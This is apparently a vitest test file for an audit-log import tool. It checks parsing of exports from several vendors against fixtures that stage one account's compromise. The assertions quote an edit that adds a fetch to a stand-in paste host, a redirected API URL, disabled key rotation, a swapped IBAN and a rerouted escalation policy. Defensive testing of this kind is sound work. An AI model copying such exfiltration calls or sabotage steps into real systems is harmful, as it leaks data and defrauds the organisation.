import { describe, expect, it } from 'vitest';
import { type Change, byRaw, changes, expectBatch, importFixture, utc } from './seed-import.ts';

/** The seed vendors' packs, end to end: each fixture imported into a fresh case, then read back. */

describe('yepcode pack', () => {
  it('maps the JSON export as documented: ID is the affected entity, team-zone times, code and attribute changes', async () => {
    const { summary, rows } = await importFixture('yepcode/audit-events.json', 'Europe/Madrid');
    expectBatch(summary, 'yepcode', 'json-array', 15);
    expect(rows).toHaveLength(15);
    expect(new Set(rows.map((r) => r.vendor))).toEqual(new Set(['yepcode']));
    // Six events touch the same process: all six are kept, none has a vendor event id.
    expect(rows.filter((r) => r.target_id === 'prc_7Hq2LmN4')).toHaveLength(6);
    expect(rows.every((r) => r.vendor_event_id === null && !r.id_conflict)).toBe(true);

    const edit = byRaw(rows, 'Time', '2025-03-04 03:12:18');
    expect(utc(edit.event_time)).toBe('2025-03-04T02:12:18.000Z');
    expect(edit.time_raw).toBe('2025-03-04 03:12:18');
    expect(edit.time_assumed_tz).toBe('Europe/Madrid');
    expect(edit).toMatchObject({
      actor: 'dana@acme.example',
      actor_type: 'user',
      src_ip: '203.0.113.77',
      action: 'UPDATED',
      action_class: 'update',
      target_type: 'PROCESS',
      target_id: 'prc_7Hq2LmN4',
      target_name: null,
      outcome: 'unknown',
    });
    const [code, ...others] = changes(edit);
    expect(others).toHaveLength(0);
    expect(code?.field).toBe('code');
    expect(String(code?.old)).toContain('return { synced: invoices.length };\n}');
    expect(String(code?.old)).not.toContain('paste.example.net');
    expect(String(code?.new)).toContain('await fetch("https://paste.example.net/u/8f3k"');
    expect(String(code?.new).split('\n').length).toBeGreaterThan(10);

    // content.after as an object of attributes: one change per attribute, no old values.
    const created = byRaw(rows, 'Time', '2025-03-03 09:58:41');
    expect(changes(created).map((c) => c.field)).toEqual(['code', 'description', 'name']);
    expect(changes(created)[2]).toEqual({ field: 'name', old: null, new: 'invoice-sync' });

    const run = byRaw(rows, 'Time', '2025-03-04 04:00:00');
    expect(run).toMatchObject({
      actor: '@scheduler',
      actor_type: 'scheduler',
      src_ip: null,
      action: 'EXECUTED',
      action_class: 'execute',
      target_type: 'EXECUTION',
      outcome: 'unknown',
    });
    expect(utc(run.event_time)).toBe('2025-03-04T03:00:00.000Z');

    const hook = byRaw(rows, 'Time', '2025-03-03 11:07:33');
    expect(hook).toMatchObject({ actor: '@webhook', actor_type: 'webhook', src_ip: '192.0.2.10' });

    const disable = byRaw(rows, 'Time', '2025-03-04 08:41:06');
    expect(changes(disable)).toEqual([{ field: 'enabled', old: true, new: false }]);
    const invite = byRaw(rows, 'Time', '2025-03-03 11:31:47');
    expect(invite).toMatchObject({ action: 'INVITATION SENT', action_class: 'permission', target_type: 'TEAM' });
    const deleted = byRaw(rows, 'Time', '2025-03-04 03:25:51');
    expect(deleted).toMatchObject({ action: 'DELETED', action_class: 'delete', target_id: 'mod_Lk22' });
    expect(deleted.changes).toBeNull();
  });

  it('reads the lower-case keys too, and keeps two identical runs in the same second as two events', async () => {
    const { summary, rows } = await importFixture('yepcode/audit-events-lowercase.json', 'UTC');
    expectBatch(summary, 'yepcode', 'json-array', 4);
    expect(rows).toHaveLength(4);
    const edit = byRaw(rows, 'time', '2025-03-03 14:41:07');
    expect(edit).toMatchObject({ actor: 'sam.k@acme.example', action: 'UPDATED', target_type: 'PROCESS', target_id: 'prc_Sp0rt111' });
    expect(changes(edit).map((c) => c.field)).toEqual(['code']);
    expect(rows.filter((r) => r.action === 'EXECUTED')).toHaveLength(2);
  });
});

describe('ubiops pack', () => {
  it('maps the API array and turns "changed from" text into changes', async () => {
    const { summary, rows } = await importFixture('ubiops/project-audit.json', 'UTC');
    expectBatch(summary, 'ubiops', 'json-array', 14);

    const scale = byRaw(rows, 'id', '6f0d3a52-1c4e-4b7a-8e2f-000000009004');
    expect(utc(scale.event_time)).toBe('2025-03-03T09:41:05.300Z');
    expect(scale.time_assumed_tz).toBeNull();
    expect(scale).toMatchObject({
      actor: 'marco.rossi@acme.example',
      actor_type: 'user',
      action: 'update',
      action_class: 'update',
      target_type: 'deployment_version',
      target_name: 'v1',
      outcome: 'unknown',
    });
    expect(changes(scale)).toEqual([
      { field: 'memory_allocation', old: '2048', new: '4096' },
      { field: 'maximum_instances', old: '2', new: '5' },
    ]);

    const env = byRaw(rows, 'id', '6f0d3a52-1c4e-4b7a-8e2f-000000009009');
    expect(env.actor).toBe('dana@acme.example');
    expect(changes(env)).toEqual([
      { field: 'value', old: 'https://erp.acme.example/api', new: 'https://203.0.113.77:8443/api' },
    ]);
    expect(env.description).toContain('Updated environment variable API_BASE_URL');

    expect(changes(byRaw(rows, 'id', '6f0d3a52-1c4e-4b7a-8e2f-000000009010'))).toEqual([
      { field: 'description', old: 'Classifies incoming invoices', new: '' },
    ]);
    expect(utc(byRaw(rows, 'id', '6f0d3a52-1c4e-4b7a-8e2f-000000009006').event_time)).toBe('2025-03-03T13:30:19.000Z');

    const failed = byRaw(rows, 'id', '6f0d3a52-1c4e-4b7a-8e2f-000000009003');
    expect(failed).toMatchObject({ action: 'info', outcome: 'failure' });

    const bucket = byRaw(rows, 'id', '6f0d3a52-1c4e-4b7a-8e2f-000000009013');
    expect(bucket).toMatchObject({
      actor: '4f1c9e@serviceuser.ubiops.com',
      actor_type: 'api',
      action: 'delete',
      action_class: 'delete',
      target_type: 'bucket',
      target_name: null,
      description: 'Deleted bucket training-data',
    });
  });
});

describe('jiffy pack', () => {
  it('maps the Kibana report variant (eventInfo, Kibana dates)', async () => {
    const { summary, rows } = await importFixture('jiffy/kibana-audit-report.csv', 'UTC');
    expectBatch(summary, 'jiffy', 'csv', 9);
    const upd = byRaw(rows, 'event', 'Vault Key Update');
    expect(utc(upd.event_time)).toBe('2025-03-04T02:48:33.775Z');
    expect(upd.time_raw).toBe('Mar 4, 2025 @ 02:48:33.775');
    expect(upd.time_assumed_tz).toBe('UTC');
    expect(upd).toMatchObject({
      actor: 'dana@acme.example',
      actor_type: 'user',
      action: 'Vault Key Update',
      action_class: 'update',
      service: 'Secure Vault',
      target_type: 'Secure Vault',
      target_name: 'sap-prod-password',
      outcome: 'failure',
      outcome_raw: 'Failure',
      description: "Key 'sap-prod-password' updated",
      tenant: 'acme-prod',
    });
    expect(byRaw(rows, 'event', 'Scheduled Cleanup')).toMatchObject({
      actor: 'system',
      actor_type: 'system',
      outcome: 'success',
      target_name: null,
    });
    expect(byRaw(rows, 'event', 'Bot Delete')).toMatchObject({
      action_class: 'delete',
      target_name: 'invoice-reminder-bot',
    });
  });

  it('maps the audit-screen variant (Event Details, BOM, CRLF, US dates in the tenant zone)', async () => {
    const { summary, rows } = await importFixture('jiffy/tenant-audit-table.csv', 'America/New_York');
    expectBatch(summary, 'jiffy', 'csv', 7);
    const upd = byRaw(rows, 'Event', 'Vault Key Update');
    expect(utc(upd.event_time)).toBe('2025-03-04T07:52:27.000Z');
    expect(upd.time_raw).toBe('3/4/2025 2:52:27 AM');
    expect(upd.time_assumed_tz).toBe('America/New_York');
    expect(upd).toMatchObject({
      actor: 'dana@acme.example',
      action: 'Vault Key Update',
      outcome: 'success',
      tenant: 'Acme Production',
      target_name: 'erp-api-token',
      description: "Key 'erp-api-token' updated.\nRotation disabled, expiry removed",
    });
    const logins = rows.filter((r) => r.action === 'User Login');
    expect(logins.map((r) => r.outcome)).toEqual(['failure', 'success']);
    expect(utc(logins[0]?.event_time)).toBe('2025-03-04T07:44:13.000Z');
    expect(byRaw(rows, 'Event', 'App Publish').description).toBe("App 'Invoice Portal' published, version 14");
  });
});

describe('epilot pack', () => {
  it('maps {logs} responses with detail as new-values-only changes', async () => {
    const { summary, rows } = await importFixture('epilot/audit-logs.json', 'UTC');
    expectBatch(summary, 'epilot', 'json-object', 10);

    const iban = byRaw(rows, 'id', '2843c005-c5b0-4df2-94ee-000000000004');
    expect(utc(iban.event_time)).toBe('2025-03-04T02:51:07.331Z');
    expect(iban).toMatchObject({
      actor: 'dana@acme.example',
      actor_id: '10027',
      actor_type: 'api',
      src_ip: '203.0.113.77',
      user_agent: 'python-requests/2.31.0',
      action: 'updateEntity',
      action_class: 'update',
      service: 'entity',
      target_type: 'contact',
      target_id: '8c1f6a52-6d7e-4a4e-a9b3-1f0b0c6c2a11',
      outcome: 'success',
      outcome_raw: '200',
      description: 'Updated contact Jonas Becker',
      tenant: '739224',
    });
    expect(changes(iban)).toEqual([
      {
        field: 'payment',
        old: null,
        new: [
          {
            type: 'payment_sepa',
            data: { iban: 'DE02 1203 0000 0000 2020 51', bic_number: 'BYLADEM1001', fullname: 'J. Becker' },
          },
        ],
      },
      { field: 'billing_email', old: null, new: 'billing@jb-invoices.example' },
    ]);

    const created = byRaw(rows, 'id', '2843c005-c5b0-4df2-94ee-000000000001');
    expect(created.target_name).toBe('Jonas Becker');
    expect(changes(created).map((c) => c.field)).toEqual(['_title', 'first_name', 'last_name', 'email']);

    const denied = byRaw(rows, 'id', '2843c005-c5b0-4df2-94ee-000000000005');
    expect(denied).toMatchObject({
      action: 'deleteWorkflow',
      action_class: 'delete',
      outcome: 'failure',
      outcome_raw: '403',
      target_id: 'wf-approval-2291',
    });
    expect(denied.changes).toBeNull();
    expect(byRaw(rows, 'id', '2843c005-c5b0-4df2-94ee-000000000009')).toMatchObject({
      action: 'login',
      outcome: 'failure',
      actor_id: null,
    });
    expect(byRaw(rows, 'id', '2843c005-c5b0-4df2-94ee-000000000003')).toMatchObject({
      actor_type: 'automation',
      src_ip: null,
    });
    expect(byRaw(rows, 'id', '2843c005-c5b0-4df2-94ee-000000000006').changes).toBeNull();
  });
});

describe('squadcast pack', () => {
  const policyChanges: Change[] = [
    { field: 'rules[0].escalation_time', old: 5, new: 60 },
    {
      field: 'rules[1].targets',
      old: [
        { type: 'user', name: 'li.wei' },
        { type: 'squad', name: 'Payments SRE' },
      ],
      new: [{ type: 'user', name: 'dana' }],
    },
    { field: 'repeat_times', old: 3, new: 0 },
  ];
  const policyEdit = {
    actor: 'dana@acme.example',
    actor_id: '63f1c2a9e4b0d71a2c5e8f07',
    actor_type: 'api',
    src_ip: '203.0.113.77',
    user_agent: 'python-requests/2.31.0',
    action: 'update',
    action_class: 'update',
    target_type: 'escalation_policies',
    target_id: '65d4e1f0a7b8c9d0e1f2a3b4',
    target_name: 'Payments Primary',
    description: "Escalation policy 'Payments Primary' updated",
  };

  it('maps the JSON export with meta changes', async () => {
    const { summary, rows } = await importFixture('squadcast/audit-logs-export.json', 'UTC');
    expectBatch(summary, 'squadcast', 'json-array', 12);
    const edit = byRaw(rows, 'id', 48206);
    expect(utc(edit.event_time)).toBe('2025-03-04T02:38:11.512Z');
    expect(edit).toMatchObject(policyEdit);
    expect(changes(edit)).toEqual(policyChanges);
    const failed = rows.filter((r) => r.action === 'login_failed');
    expect(failed).toHaveLength(2);
    expect(failed.every((r) => r.outcome === 'failure' && r.action_class === 'login')).toBe(true);
    expect(byRaw(rows, 'id', 48201)).toMatchObject({
      action: 'login',
      actor_type: 'user',
      src_ip: '198.51.100.57',
      changes: null,
    });
    expect(changes(byRaw(rows, 'id', 48208))).toEqual([{ field: 'maintenance_mode', old: false, new: true }]);
  });

  it('maps a saved list page (no IP, no meta)', async () => {
    const { summary, rows } = await importFixture('squadcast/audit-logs-page.json', 'UTC');
    expectBatch(summary, 'squadcast', 'json-object', 6);
    const edit = byRaw(rows, 'id', 48206);
    expect(edit).toMatchObject({
      actor: 'dana@acme.example',
      action: 'update',
      target_type: 'escalation_policies',
      src_ip: null,
      target_id: null,
      changes: null,
    });
  });

  it('maps the CSV export: dotted headers, meta JSON in a cell, times in the export zone', async () => {
    const { summary, rows } = await importFixture('squadcast/audit-logs-export.csv', 'Europe/Berlin');
    expectBatch(summary, 'squadcast', 'csv', 12);
    const edit = byRaw(rows, 'id', '48206');
    expect(utc(edit.event_time)).toBe('2025-03-04T02:38:11.000Z');
    expect(edit.time_raw).toBe('2025-03-04 03:38:11');
    expect(edit.time_assumed_tz).toBe('Europe/Berlin');
    expect(edit).toMatchObject(policyEdit);
    expect(changes(edit)).toEqual(policyChanges);
    expect(byRaw(rows, 'id', '48204')).toMatchObject({ action: 'login_failed', outcome: 'failure' });
  });
});
